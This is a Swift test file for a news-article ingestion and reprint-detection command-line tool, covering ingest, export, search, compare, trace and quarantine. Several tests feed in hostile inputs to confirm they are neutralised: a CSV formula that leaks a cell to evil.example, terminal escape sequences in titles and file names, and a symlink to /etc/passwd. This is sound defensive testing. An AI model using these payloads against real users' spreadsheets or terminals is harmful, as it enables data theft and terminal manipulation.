// SPDX-License-Identifier: Apache-2.0

import ArticleModel
import Foundation
import Presentation
import Spool
import SystemPackage
import Testing

@testable import CLI

private let articleKeys: Set = [
    "id", "title", "byline", "source", "url", "document_id", "language", "published", "modified", "received", "words",
    "format", "file", "family", "relation", "story", "fields",
]
private let relationKeys: Set = ["kind", "to", "resemblance", "containment", "contained"]

@Suite struct IngestTests {
    @Test func `every article is reported with its outcome, and is known the second time`() throws {
        let fixture = try CommandLineFixture()
        let paper = try fixture.file("paper.jsonl", Sample.original + "\n" + Sample.other)
        for outcome in ["stored", "known"] {
            let answer = try fixture.run("ingest", "--json", paper)
            #expect(answer.state == .done)
            let objects = try answer.objects()
            #expect(objects.map { $0["outcome"] as? String } == [outcome, outcome])
            for object in objects {
                #expect(Set(object.keys) == ["outcome", "reason", "stage", "article"])
                #expect(object["reason"] is NSNull && object["stage"] is NSNull)
                let article = try #require(object["article"] as? [String: Any])
                #expect(Set(article.keys) == articleKeys)
                let file = try #require(article["file"] as? [String: Any])
                #expect(Set(file.keys) == ["name", "sha256", "size", "member", "entry"])
                #expect(file["name"] as? String == paper)
            }
        }
    }

    @Test func `unreadable files are reported, and the others are processed`() throws {
        let fixture = try CommandLineFixture()
        try fixture.file("a/empty.txt", "")
        try fixture.file("a/good\nname.jsonl", Sample.original)
        try fixture.file("a/image.html", "\u{89}PNG\r\n\u{1A}\n\0\0\0\0")
        #expect(mkfifo(fixture.files + "/a/pipe.txt", 0o600) == 0)
        #expect(symlink("/etc/passwd", fixture.files + "/a/link.txt") == 0)
        let answer = try fixture.run("ingest", "--json", fixture.files, "/nonexistent/x.html")
        #expect(answer.state == .someFailed)
        let objects = try answer.objects()
        let rejected = objects.filter { $0["outcome"] as? String == "rejected" }
        #expect(objects.filter { $0["outcome"] as? String == "stored" }.count == 1)
        #expect(rejected.count == 5)
        for object in rejected {
            #expect((object["reason"] as? String)?.isEmpty == false)
            #expect(object["stage"] as? String == "read")
            let article = try #require(object["article"] as? [String: Any])
            #expect(Set(article.keys) == articleKeys)
            #expect(article["id"] is NSNull)
            #expect((article["file"] as? [String: Any])?["name"] is String)
        }
        #expect(!answer.messages.contains("good\nname"))
        // Refused files are in the history, as with the daemon.
        #expect(try fixture.run("trace", "pipe.txt").out.contains("rejected"))
    }

    @Test func `a subdirectory names the source of files that name none`() throws {
        let fixture = try CommandLineFixture()
        try fixture.file("fen-observer/deeper/comet.txt", Sample.paragraphs.joined(separator: "\n\n"))
        try fixture.run("ingest", fixture.files)
        #expect(try fixture.run("export").objects().map { $0["source"] as? String } == ["fen-observer"])
    }

    @Test func `an index that cannot be created is reported`() throws {
        let fixture = try CommandLineFixture()
        let paper = try fixture.file("paper.jsonl", Sample.original)
        let nowhere = fixture.files + "/no/such/parent"
        #expect(try fixture.run("ingest", "--directory", nowhere, paper).state == .cannotCreate)
    }
}

@Suite struct QueryTests {
    @Test func `export writes every article, sorted by id, with the documented keys`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let objects = try fixture.run("export").objects()
        #expect(objects.compactMap { $0["id"] as? String } == [ids.original, ids.reprint, ids.other].sorted())
        for object in objects {
            #expect(Set(object.keys) == articleKeys)
            #expect(Set(try #require(object["relation"] as? [String: Any]).keys) == relationKeys)
            #expect(object["story"] is NSNull && object["url"] is NSNull)
            let fields = try #require(object["fields"] as? [String: [String: Any]])
            #expect(fields["title"].map { Set($0.keys) } == ["from", "confidence"])
        }
        let texts = try fixture.run("export", "--text").objects()
        #expect(texts.allSatisfy { Set($0.keys) == articleKeys.union(["text"]) })
    }

    @Test func `formulas are text in CSV, and unchanged in JSON`() throws {
        let fixture = try CommandLineFixture()
        let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
        let line = try JSONSerialization.data(withJSONObject: [
            "title": title, "source": "+33 Press", "published": "2026-11-20T07:00:00Z", "text": Sample.paragraphs[0],
        ])
        try fixture.run("ingest", try fixture.file("formula.jsonl", String(decoding: line, as: UTF8.self)))
        let csv = try fixture.run("export", "--format", "csv", "--text").out
        let row = try #require(csv.components(separatedBy: "\r\n").dropFirst().first)
        #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",,"'+33 Press","#), "\(row)")
        #expect(row.contains(",2026-11-20T07:00:00Z,") && !row.contains("'2026"), "our own values are unchanged")
        let object = try #require(try fixture.run("export", "--text").objects().first)
        #expect(object["title"] as? String == title && object["source"] as? String == "+33 Press")
    }

    @Test func `a file appears under its name only when the export is complete`() throws {
        let fixture = try CommandLineFixture()
        try fixture.harbour()
        let path = fixture.files + "/out.csv"
        #expect(try fixture.run("export", "--format", "csv", "--output", path).state == .done)
        let lines = try String(contentsOfFile: path, encoding: .utf8).components(separatedBy: "\r\n")
        #expect(lines.count == 5 && lines[4].isEmpty)
        #expect(lines[0].hasPrefix("id,title,byline,source,url,document_id,language,published,modified,received,words"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: fixture.files).allSatisfy { !$0.hasSuffix(".tmp") })
        #expect(try fixture.run("export", "--output", "/nonexistent/out").state == .cannotCreate)
    }

    @Test func `search finds articles, counts copies, shows snippets, and reports an empty result`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let hits = try fixture.run("search", "--json", "trawlers").objects()
        #expect(hits.count == 1)
        #expect(hits.allSatisfy { Set($0.keys) == articleKeys.union(["copies", "score", "snippet"]) })
        #expect(hits.first?["copies"] as? Int == 2)
        #expect((hits.first?["snippet"] as? String)?.contains("trawlers") == true)
        #expect(try fixture.run("search", "--all", "--json", "trawlers").objects().count == 2)
        #expect(try fixture.run("search", "--json", "trawlers", "-auction").state == .nothing)
        let nothing = try fixture.run("search", "--json", "zeppelin")
        #expect(nothing.state == .nothing && nothing.out.isEmpty)
        #expect(try fixture.run("search", "comet").out.contains(String(ids.other.prefix(8))))
        #expect(try fixture.run("search", "since:yesteryear comet").state == .badInput)
    }

    @Test func `arguments quoted in the shell are phrases`() {
        #expect(
            Search.joined(["green comet", "-new moon", "title:a comet", "x"])
                == "\"green comet\" -\"new moon\" title:\"a comet\" x")
        #expect(Search.joined(["green comet"]) == "green comet")
    }

    @Test func `the passages of show have offsets into the text`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let object = try #require(try fixture.run("show", "--text", "--json", ids.reprint).objects().first)
        #expect(Set(object.keys) == articleKeys.union(["text"]))
        let relation = try #require(object["relation"] as? [String: Any])
        #expect(Set(relation.keys) == relationKeys.union(["passages"]))
        let passages = try #require(relation["passages"] as? [[String: Any]])
        #expect(!passages.isEmpty)
        let lead = try #require(try fixture.run("show", "--text", "--json", ids.original).objects().first)
        for passage in passages {
            #expect(Set(passage.keys) == ["here", "there", "words"])
            func slice(_ object: [String: Any], _ key: String) throws -> String {
                let scalars = Array(try #require(object["text"] as? String).unicodeScalars)
                let range = try #require(passage[key] as? [Int])
                return String(String.UnicodeScalarView(scalars[range[0]..<range[1]]))
            }
            let words = try #require(passage["words"] as? Int)
            #expect(try slice(object, "here") == slice(lead, "there"))
            #expect(try slice(object, "here").split(whereSeparator: \.isWhitespace).count == words)
        }
    }

    @Test func `copies are below the article that they relate to`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let objects = try fixture.run("copies", "--json", String(ids.reprint.prefix(12))).objects()
        #expect(objects.map { $0["id"] as? String } == [ids.original, ids.reprint])
        #expect(objects.map { $0["depth"] as? Int } == [0, 1])
        #expect(objects.allSatisfy { Set($0.keys) == articleKeys.union(["depth"]) })
        let screen = try fixture.run("copies", ids.original, width: 100)
        #expect(screen.out.contains("└─ " + ids.reprint.prefix(8)))
        #expect(screen.lines.allSatisfy { DisplayWidth.of($0) <= 100 })
        // The title of a copy is readable at any width.
        for width in [40, 60, 80, 86, 100, 120, 200] {
            let screen = try fixture.run("copies", ids.original, width: width)
            #expect(screen.out.contains("Boats out again at Valdrey"), "\(width): \(screen.out)")
            #expect(screen.lines.allSatisfy { DisplayWidth.of($0) <= width }, "\(width): \(screen.out)")
        }
    }

    @Test func `compare shows the relation from the first article, and marks differences or shared passages`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let object = try #require(try fixture.run("compare", "--json", ids.original, ids.reprint).objects().first)
        #expect(Set(object.keys) == ["a", "b", "relation", "changes", "passages", "differences"])
        let relation = try #require(object["relation"] as? [String: Any])
        #expect(Set(relation.keys) == ["kind", "resemblance", "containment", "contained", "decided_by"])
        #expect(relation["kind"] as? String == "reprint")
        let passages = try #require(object["passages"] as? [[String: Any]])
        #expect(passages.allSatisfy { Set($0.keys) == ["here", "there", "words", "text"] })
        #expect(passages.contains { ($0["text"] as? String)?.contains("the first trawlers left the quay") == true })
        let strangers = try #require(try fixture.run("compare", "--json", ids.original, ids.other).objects().first)
        #expect((strangers["relation"] as? [String: Any])?["kind"] is NSNull && strangers["differences"] is NSNull)
        let differences = try #require(object["differences"] as? [[String: Any]])
        #expect(differences.allSatisfy { Set($0.keys) == ["here", "there", "a", "b"] })
        #expect(differences.contains { $0["a"] as? String == "Orla Finnegan" && $0["b"] as? String == "" })
        for width in [60, 100, 140, 260] {
            let screen = try fixture.run("compare", ids.original, ids.reprint, width: width)
            #expect(screen.lines.allSatisfy { DisplayWidth.of($0) <= width })
            #expect(screen.out.contains("[-Orla") && screen.out.contains("{+") && !screen.out.contains("[["))
            #expect(screen.out.contains(" │ ") == (width >= 100))
            let shared = try fixture.run("compare", ids.original, ids.reprint, "--mark", "shared", width: width)
            #expect(shared.lines.allSatisfy { DisplayWidth.of($0) <= width })
            #expect(shared.out.contains("[[") && !shared.out.contains("{+"))
        }
    }

    @Test func `an article is found by the beginning of its id, and an ambiguous one lists the matches`() throws {
        let fixture = try CommandLineFixture()
        // Enough ids that two of them almost certainly share the first four digits: the probability that none do is
        // e^-19.
        let lines = (0..<1_600).map { number in
            Sample.line(
                title: "Notice \(number)", source: "Gazette", published: "2026-11-20T07:00:00Z",
                text: "Notice \(number).")
        }
        try fixture.run("ingest", try fixture.file("notices.jsonl", lines.joined(separator: "\n")))
        let ids = try fixture.run("export").objects().compactMap { $0["id"] as? String }
        #expect(ids.count == 1_600)
        let groups = Dictionary(grouping: ids) { $0.prefix(4) }
        let shared = try #require(groups.first { $0.value.count > 1 })
        let answer = try fixture.run("show", String(shared.key))
        #expect(answer.state == .badInput)
        #expect(answer.messages.contains("'\(shared.key)' matches several articles"), "\(answer.messages)")
        #expect(shared.value.allSatisfy { answer.messages.contains($0.prefix(8)) }, "\(answer.messages)")
        #expect(answer.messages.contains("Gazette") && answer.messages.contains("Notice"), "\(answer.messages)")
        for command in [["copies"], ["tag", "--list"], ["split"], ["trace"]] {
            let other = try fixture.run(command + [String(shared.key)])
            #expect(other.messages.contains("'\(shared.key)' matches several articles"), "\(other.messages)")
        }
        let alone = try #require(groups.first { $0.value.count == 1 })
        #expect(try fixture.run("show", String(alone.key).uppercased()).state == .done)
        let unused = try #require(
            (0..<65_536).map { String(format: "%04x", $0) }.first { groups[Substring($0)] == nil })
        #expect(try fixture.run("show", unused).state == .nothing)
        #expect(try fixture.run("show", "xyz!").state == .badInput)
    }

    @Test func `an untrusted title cannot control the terminal`() throws {
        let fixture = try CommandLineFixture()
        let evil = Sample.line(
            title: #"Evil \u001b]0;owned\u0007 \u009b31m\u202etitle"#, source: #"S\u001b[2J"#,
            published: "2026-11-20T07:00:00Z",
            text: Sample.paragraphs[0] + #" \u001b[31mred\u0008"#)
        let answer = try fixture.run("ingest", "--json", try fixture.file("e\u{1B}[1m\nvil.jsonl", evil))
        let id = try #require((try answer.objects().first?["article"] as? [String: Any])?["id"] as? String)
        let screens = [
            answer, try fixture.run("status"), try fixture.run("search", "harbour"),
            try fixture.run("show", "--text", id), try fixture.run("copies", id),
            try fixture.run("compare", id, id), try fixture.run("trace", id), try fixture.run("export"),
        ]
        for screen in screens {
            for scalar in (screen.out + screen.messages).unicodeScalars where scalar != "\n" {
                #expect(scalar.value >= 0x20 && !(0x7F...0x9F).contains(scalar.value))
                #expect(scalar.value != 0x202E || screen.out.hasPrefix("{"))
            }
        }
    }
}

@Suite struct TraceTests {
    @Test func `a file is traced by name, content, digest and article`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let paper = fixture.files + "/harbour.jsonl"
        let sha = try #require(
            (try fixture.run("export").objects().first?["file"] as? [String: Any])?["sha256"] as? String)
        for what in [paper, "harbour.jsonl", sha, String(sha.prefix(16))] {
            let steps = try fixture.run("trace", "--json", what).objects()
            #expect(steps.map { $0["step"] as? String } == ["seen", "decided", "decided", "decided"])
            #expect(
                steps.allSatisfy {
                    Set($0.keys) == ["step", "time", "file", "outcome", "article", "stage", "reason", "place"]
                })
        }
        #expect(try fixture.run("trace", "--json", ids.reprint).objects().count == 2)
        let copy = try fixture.file("copy-elsewhere.jsonl", String(contentsOfFile: paper, encoding: .utf8))
        #expect(try fixture.run("trace", "--json", copy).objects().count == 4)
        #expect(try fixture.run("trace", "never-seen.html").state == .nothing)
    }

    @Test func `reasons are wrapped to fit the screen, and paths are not`() throws {
        let fixture = try CommandLineFixture()
        try fixture.harbour()
        let path = try fixture.file("no-text.json", "{\"nothing\": 1}")
        try fixture.run("ingest", path)
        let lines = try fixture.run("trace", "no-text.json", width: 80).lines
        #expect(lines.count > 3 && lines.allSatisfy { DisplayWidth.of($0) <= 80 || $0.contains(path) }, "\(lines)")
        #expect(lines[2].contains("rejected at 'read': "))
        let indent = try #require(lines[2].range(of: "rejected"))
        #expect(
            lines[3].hasPrefix(
                String(repeating: " ", count: lines[2].distance(from: lines[2].startIndex, to: indent.lowerBound))))
        #expect(lines[2].contains(/^  \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3} [A-Z+-]\S*  rejected/))
        let long = "orders/" + String(repeating: "long-", count: 30) + "name.txt"
        try fixture.file("../spool/inbox/" + long, "x")
        let waiting = try fixture.run("trace", long, width: 80).lines
        #expect(waiting.contains { $0.hasSuffix("located in inbox/" + long) })
        #expect(waiting.contains { $0.hasSuffix("waiting to be processed") })
    }

    @Test func `a waiting file is found too`() throws {
        let fixture = try CommandLineFixture()
        try fixture.harbour()
        try Data("x".utf8).write(to: fixture.directory.appendingPathComponent("inbox/new.txt"))
        let steps = try fixture.run("trace", "--json", "new.txt").objects()
        #expect(steps.map { $0["place"] as? String } == ["inbox/new.txt"])
    }

    @Test func `forget asks, removes, and leaves a note`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        #expect(try fixture.run("forget", ids.other).state == .usage)
        #expect(try fixture.run("export").objects().count == 3)
        #expect(try fixture.run("forget", "--yes", ids.other).state == .done)
        #expect(try fixture.run("export").objects().count == 2)
        let answer = try fixture.run("show", ids.other)
        #expect(answer.state == .nothing && answer.messages.contains("forgotten"))
        #expect(try fixture.run("search", "comet").state == .nothing)
        #expect(try fixture.run("trace", "--json", ids.other).objects().last?["step"] as? String == "forgotten")
    }

    @Test func `verify is silent if there is no problem, and lists problems otherwise`() throws {
        let fixture = try CommandLineFixture()
        try fixture.harbour()
        let sound = try fixture.run("verify", "--deep")
        #expect(sound.state == .done && sound.out.isEmpty, "\(sound.out)")
        for place in ["archive/2026/11/21/stranger.html", "work/left.html", "rejected/mystery.html"] {
            let url = fixture.directory.appendingPathComponent(place)
            try FileManager.default.createDirectory(
                at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data("x".utf8).write(to: url)
        }
        let answer = try fixture.run("verify", "--json")
        #expect(answer.state == .nothing)
        let found = try answer.objects()
        #expect(found.allSatisfy { Set($0.keys) == ["part", "name", "problem"] })
        #expect(
            Set(found.compactMap { $0["name"] as? String })
                == ["archive/2026/11/21/stranger.html", "work/left.html", "rejected/mystery.html"])
    }
}

@Suite struct RejectedTests {
    /// Creates two rejected files, one with a name that must be escaped.
    private func quarantine(_ fixture: CommandLineFixture) throws {
        let directory = FilePath(fixture.directory.path)
        let directories = SpoolDirectories(
            inbox: directory.appending("inbox"), work: directory.appending("work"),
            archive: directory.appending("archive"), rejected: directory.appending("rejected"))
        var touched = TouchedDirectories()
        for name in ["bad\u{1B}[1m\nname.html", "photo.png"] {
            _ = try Quarantine(directories).add(
                Array("x".utf8), name: FileName(name),
                RejectionReason("not text; send text", stage: .read, rejected: Date()),
                touching: &touched)
        }
    }

    @Test func `list and show print names and reasons, with or without an index`() throws {
        let fixture = try CommandLineFixture()
        #expect(try fixture.run("rejected", "list").state == .done)
        try quarantine(fixture)
        let objects = try fixture.run("rejected", "list", "--json").objects()
        #expect(objects.map { $0["name"] as? String } == ["bad\u{1B}[1m\nname.html", "photo.png"])
        #expect(
            objects.allSatisfy { $0["reason"] as? String == "not text; send text" && $0["stage"] as? String == "read" })
        let screen = try fixture.run("rejected").out
        #expect(screen.contains(#"bad\u{1B}[1m\nname.html"#) && !screen.contains("\u{1B}"))
        #expect(try fixture.run("rejected", "show", #"bad\u{1B}[1m\nname.html"#).out.contains("not text; send text"))
        #expect(try fixture.run("rejected", "show", "absent").state == .badInput)
    }

    @Test func `retry moves files back to the inbox, drop deletes them`() throws {
        let fixture = try CommandLineFixture()
        try quarantine(fixture)
        #expect(try fixture.run("rejected", "retry", "bad\u{1B}[1m\nname.html").state == .done)
        let inbox = fixture.directory.appendingPathComponent("inbox").path
        #expect(try FileManager.default.contentsOfDirectory(atPath: inbox) == ["bad\u{1B}[1m\nname.html"])
        let unasked = try fixture.run("rejected", "drop", "--all")
        #expect(unasked.state == .usage && unasked.messages.contains("--yes") && unasked.out.isEmpty)
        #expect(try fixture.run("rejected", "list", "--json").objects().count == 1)
        #expect(try fixture.run("rejected", "drop", "--all", "--yes").state == .done)
        #expect(try fixture.run("rejected", "drop", "--all").state == .done, "nothing to ask about")
        #expect(try fixture.run("rejected", "list", "--json").objects().isEmpty)
        for arguments in [["rejected", "drop"], ["rejected", "retry", "x", "--all"]] {
            #expect(try fixture.run(arguments).state == .usage)
        }
    }
}

@Suite struct TryTests {
    @Test func `try shows everything and stores nothing`() throws {
        let fixture = try CommandLineFixture()
        let paper = try fixture.file("one.jsonl", Sample.original)
        let alone = try #require(try fixture.run("try", "--json", paper).objects().first)
        #expect(Set(alone.keys) == articleKeys.union(["text"]))
        #expect((alone["relation"] as? [String: Any])?["kind"] as? String == "original")
        #expect(try fixture.run("export").state == .noIndex)
        try fixture.run("ingest", paper)
        let copy = try fixture.file("two.jsonl", Sample.reprint)
        let second = try #require(try fixture.run("try", "--json", copy).objects().first)
        #expect((second["relation"] as? [String: Any])?["kind"] as? String == "reprint")
        #expect((second["relation"] as? [String: Any])?["to"] as? String == alone["id"] as? String)
        #expect(try fixture.run("try", paper).out.contains("known"))
        #expect(try fixture.run("export").objects().count == 1)
        #expect(try fixture.run("try", try fixture.file("empty.txt", ""), copy).state == .someFailed)
    }
}

@Suite struct CommandLineTests {
    @Test func `an invalid command line ends with 64, help ends with 0 and lists exit states`() throws {
        let fixture = try CommandLineFixture()
        for arguments in [
            ["nonsense"], ["show"], ["search", "--limit", "0", "x"], ["export", "--format", "xml"], ["search", " "],
        ] {
            let answer = try fixture.run(arguments)
            #expect(answer.state == .usage && answer.out.isEmpty && !answer.messages.isEmpty, "\(arguments)")
        }
        for subcommand in [
            "status", "ingest", "try", "search", "count", "sources", "families", "show", "copies", "compare", "trace",
            "rejected", "export", "forget", "verify", "tag", "note",
        ] {
            let help = try fixture.run(subcommand, "--help")
            #expect(help.state == .done && help.out.contains("Exit status:"), "\(subcommand)")
        }
        #expect(try fixture.run("--version").out == Version.text + "\n")
    }

    @Test func `invalid settings stop a command, and the message names the line`() throws {
        let fixture = try CommandLineFixture()
        let config = try fixture.file("bad.yaml", "disposition: archive\nquiet_tim: 3 s\n")
        let answer = try fixture.run("status", "--config", config)
        #expect(answer.state == .configuration && answer.messages.contains("2"))
        #expect(try fixture.run("status", "--config", "/nonexistent.yaml").state == .configuration)
    }

    @Test func `an invalid settings file stops only commands that need the settings`() throws {
        let fixture = try CommandLineFixture()
        let ids = try fixture.harbour()
        let paper = fixture.files + "/harbour.jsonl"
        let settings = fixture.directory.appendingPathComponent("copytaster.yaml")
        try Data("disposition: archive\nquiet_tim: 3 s\n".utf8).write(to: settings)
        for arguments in [
            ["status"], ["search", "trawlers"], ["show", ids.other], ["copies", ids.other],
            ["compare", ids.original, ids.reprint], ["trace", ids.other], ["rejected"], ["rejected", "list"],
            ["export"], ["verify"], ["forget", "--yes", ids.other],
        ] {
            let answer = try fixture.run(arguments)
            let expected = arguments == ["status"] ? ExitState.nothing : .done
            #expect(answer.state == expected, "\(arguments): \(answer.messages)")
            #expect(answer.messages.contains("copytaster.yaml:2"), "\(arguments)")
            #expect(answer.messages.contains("defaults"), "\(arguments)")
            let named = try fixture.run(arguments + ["--config", settings.path])
            #expect(named.state == .configuration && named.out.isEmpty, "\(arguments)")
            let absent = try fixture.run(arguments + ["--config", fixture.files + "/absent.yaml"])
            #expect(absent.state == .configuration, "\(arguments)")
        }
        #expect(try fixture.run("status", "--json").objects().count == 1)
        for arguments in [["ingest", paper], ["try", paper]] {
            let answer = try fixture.run(arguments)
            #expect(answer.state == .configuration && answer.messages.contains("copytaster.yaml:2"), "\(arguments)")
        }
        #expect(try fixture.run("export").objects().count == 2)
    }

    @Test func `options override the environment, and the inbox may be elsewhere`() throws {
        let fixture = try CommandLineFixture()
        try fixture.harbour()
        let elsewhere = fixture.root.appendingPathComponent("elsewhere").path
        #expect(try fixture.run("export", "--directory", elsewhere).state == .noIndex)
        try fixture.file("drop/a.txt", "x")
        let object = try fixture.run("status", "--json", "--inbox", fixture.files + "/drop").objects().first
        #expect(object?["waiting"] as? Int == 1)
        let same = try fixture.run("status", "--json", environment: ["COPYTASTER_INBOX": fixture.files + "/drop"])
            .objects()
            .first
        #expect(same?["waiting"] as? Int == 1)
    }
}
